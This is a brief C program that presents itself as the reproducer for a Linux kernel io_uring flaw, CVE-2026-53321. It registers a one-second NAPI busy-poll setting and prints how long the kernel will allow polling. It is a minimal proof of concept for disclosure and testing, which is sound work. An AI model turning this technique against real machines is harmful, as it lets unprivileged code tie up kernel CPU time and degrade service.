// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * The reproducer of CVE-2026-53321: asks that the kernel poll network devices for a second, and
 * prints for how many microseconds it may.
 */
#include <linux/io_uring.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Of Linux 6.9; the C library's headers are older. */
#define REGISTER_NAPI 27
#define UNREGISTER_NAPI 28
struct napi {
	uint32_t busy_poll_us;
	uint8_t prefer_busy_poll;
	uint8_t pad[3];
	uint64_t reserved;
};

int main(void)
{
	struct io_uring_params parameters = {0};
	struct napi napi = {.busy_poll_us = 1000000};
	int ring = syscall(SYS_io_uring_setup, 2, &parameters);

	if (syscall(SYS_io_uring_register, ring, REGISTER_NAPI, &napi, 1) ||
	    syscall(SYS_io_uring_register, ring, UNREGISTER_NAPI, &napi, 1)) {
		perror("napi");
		return 1;
	}
	printf("polls for %u\n", napi.busy_poll_us);
	return 0;
}
